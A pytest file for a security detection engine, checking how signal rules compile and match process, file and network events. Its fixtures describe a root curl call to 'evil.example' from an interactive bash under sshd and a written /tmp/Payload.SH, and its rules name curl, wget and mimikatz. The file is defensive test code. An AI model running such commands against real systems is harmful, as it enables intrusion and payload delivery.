"""The engine answers what direct evaluation answers, and tells what it did."""

from __future__ import annotations

from itertools import count

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detection.exceptions import NeverTogether
from detection.signals.compiler import Check, CompiledSignal, compile_check, compile_signal
from detection.signals.direct import matches_directly
from detection.signals.engine import Engine
from detection.signals.expression import Expression
from detection.signals.spelling import to_text
from protocol.events import (
    Ancestor,
    Event,
    FileEvent,
    NetworkEvent,
    Process,
    ProcessExited,
    ProcessStarted,
)
from tests.detection.strategies import events, expressions

CURL = Process(
    key=1,
    pid=7,
    started_at=1,
    path="/usr/bin/curl",
    arguments=("curl", "-k", "https://evil.example"),
    user="root",
    sha256="AB" * 32,
    ancestors=(
        Ancestor(2, 6, "/usr/bin/bash", "bash -i"),
        Ancestor(3, 1, "/usr/sbin/sshd", "sshd: root"),
    ),
)
STARTED = ProcessStarted(at=1, process=CURL)
WRITTEN = FileEvent(at=2, process=CURL, operation="write", path="/tmp/Payload.SH")  # noqa: S108
CONNECTED = NetworkEvent(
    at=3,
    process=None,
    operation="connect",
    protocol="tcp",
    local_address="10.0.0.1",
    local_port=50123,
    address="203.0.113.7",
    port=443,
)
EVENTS: list[Event] = [STARTED, WRITTEN, CONNECTED, ProcessExited(at=4, process=CURL)]


def matching(text: str, event: Event) -> bool:
    return bool(Engine([compile_signal("s", text)]).evaluate(event))


class TestEvaluate:
    @pytest.mark.parametrize(
        "text",
        [
            "process.path ends with /curl AND process.command_line contains EVIL",
            "process.name is CURL",
            "process.parent_name is bash AND process.ancestry_path ends with sshd",
            f"process.hash is {'ab' * 32}",
            "process.user_id is null",
            "process.command_line matches 'curl .*evil.*'",
            "process.command_line matches '*evil?example'",
            "process.path not contains wget",
            "process.pid=7",
            "process.ancestry_command_line contains not wget",
        ],
    )
    def test_finds_what_the_process_has(self, text: str) -> None:
        assert matching(text, STARTED)

    @pytest.mark.parametrize(
        "text",
        [
            "process.path is curl",
            "process.company is null AND NOT process.company is null",
            "process.user contains x",
            "process.company matches '.*'",
            "process.ancestry_path is curl",
        ],
    )
    def test_finds_nothing_else(self, text: str) -> None:
        assert not matching(text, STARTED)

    def test_sees_the_process_of_other_events(self) -> None:
        assert matching("file.name is payload.sh AND process.parent_name is bash", WRITTEN)

    def test_reads_numbers_and_networks(self) -> None:
        text = "network.port is 443 AND network.address in cidr 203.0.113.0/24"

        assert matching(text, CONNECTED)

    def test_takes_a_process_that_was_not_recorded_for_absent(self) -> None:
        assert matching("process.path is null AND network.port=443", CONNECTED)

    def test_has_no_rules_for_an_exit(self) -> None:
        assert not matching("process.name is curl", EVENTS[3])

    def test_names_the_terms_with_what_they_found(self) -> None:
        text = "process.name is CURL AND process.user is not alice AND (file.path ends with .sh)"

        [match] = Engine([compile_signal("rule", text)]).evaluate(WRITTEN)

        assert match.signal_id == "rule"
        assert [(t.property, t.condition, t.value, t.found) for t in match.matched] == [
            ("process.name", "is", "CURL", "curl"),
            ("file.path", "ends with", ".sh", "/tmp/Payload.SH"),  # noqa: S108
        ]

    def test_answers_in_the_order_of_the_rules(self) -> None:
        texts = ["process.name is curl", "process.user is not bob", "process.path contains bin"]
        engine = Engine(compile_signal(str(i), text) for i, text in enumerate(texts))

        assert [match.signal_id for match in engine.evaluate(STARTED)] == ["0", "1", "2"]


class TestEvaluateBatch:
    def test_names_the_positions(self) -> None:
        engine = Engine(
            [
                compile_signal("curl", "process.name is curl OR file.name is payload.sh"),
                compile_signal("port", "network.port is 443"),
                compile_signal("any", "process.user is not alice"),
            ]
        )

        found = [(p, m.signal_id) for p, m in engine.evaluate_batch([*EVENTS, STARTED])]

        assert found == [(0, "curl"), (0, "any"), (1, "curl"), (2, "port"), (4, "curl"), (4, "any")]

    def test_survives_more_events_than_one_pass_takes(self) -> None:
        engine = Engine([compile_signal("curl", "process.name is curl")])
        other = ProcessStarted(at=1, process=None)
        many: list[Event] = [STARTED if i % 700 == 699 else other for i in range(1400)]

        assert [position for position, _ in engine.evaluate_batch(many)] == [699, 1399]

    def test_drops_candidates_that_do_not_hold(self) -> None:
        engine = Engine([compile_signal("s", "process.path contains curl AND process.pid is 8")])

        assert engine.evaluate_batch(EVENTS) == []

    def test_knows_an_empty_batch(self) -> None:
        assert Engine([]).evaluate_batch([]) == []


class TestStatistics:
    def test_counts_what_each_rule_did(self) -> None:
        engine = Engine(
            [
                compile_signal("rare", "process.name is wget"),
                compile_signal("always", "process.user is not alice"),
                compile_signal("often", "process.path contains curl AND NOT process.user is root"),
            ]
        )
        engine.evaluate(STARTED)

        counted = {s.signal_id: (s.evaluations, s.matches, s.always) for s in engine.statistics()}

        assert counted == {"rare": (0, 0, False), "always": (1, 1, True), "often": (1, 0, False)}

    def test_prices_rules_by_the_timer(self) -> None:
        ticks = count(step=5)
        engine = Engine(
            [
                compile_signal("literal", "process.path contains curl"),
                compile_signal("always", "process.user is not alice"),
            ],
            timer=lambda: next(ticks),
        )
        for _ in range(32):
            engine.evaluate(STARTED)

        spent = {s.signal_id: s.nanoseconds for s in engine.statistics()}

        assert spent == {"literal": 2 * 16 * 5, "always": 32 * 5}

    def test_estimates_without_a_timer(self) -> None:
        engine = Engine(
            [
                compile_signal("cheap", "process.path contains curl"),
                compile_signal("dear", "process.path matches '.*[ab].*'"),
            ]
        )
        engine.evaluate(STARTED)

        assert [s.signal_id for s in engine.statistics()] == ["dear", "cheap"]


class TestCompiling:
    def test_waits_until_the_prefilter_lets_a_rule_through(
        self, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        compiled: list[Expression] = []

        def watched(expression: Expression, columns: dict[str, int]) -> Check:
            compiled.append(expression)
            return compile_check(expression, columns)

        monkeypatch.setattr("detection.signals.engine.compile_check", watched)
        common = compile_signal("common", "process.path contains curl")
        engine = Engine([common, compile_signal("rare", "process.path contains mimikatz")])

        before = list(compiled)
        found = [engine.evaluate(STARTED), engine.evaluate(STARTED)]

        assert before == []
        assert [[match.signal_id for match in matches] for matches in found] == [["common"]] * 2
        assert compiled == [common.expression]


class TestAgreement:
    @settings(max_examples=150, deadline=None)
    @given(st.lists(expressions, min_size=1, max_size=6), st.lists(events, min_size=1, max_size=6))
    def test_is_that_of_direct_evaluation(
        self, drawn: list[Expression], happened: list[Event]
    ) -> None:
        signals = list(_compilable(drawn))
        engine = Engine(signals)
        expected = [
            (position, signal.id)
            for position, event in enumerate(happened)
            for signal in signals
            if matches_directly(signal.expression, event)
        ]

        single = [(i, m.signal_id) for i, e in enumerate(happened) for m in engine.evaluate(e)]
        batch = [(i, m.signal_id) for i, m in engine.evaluate_batch(happened)]

        assert single == expected
        assert batch == expected


def _compilable(drawn: list[Expression]) -> list[CompiledSignal]:
    signals = []
    for number, expression in enumerate(drawn):
        try:
            signals.append(compile_signal(str(number), to_text(expression), term_limit=None))
        except NeverTogether:
            continue
    return signals
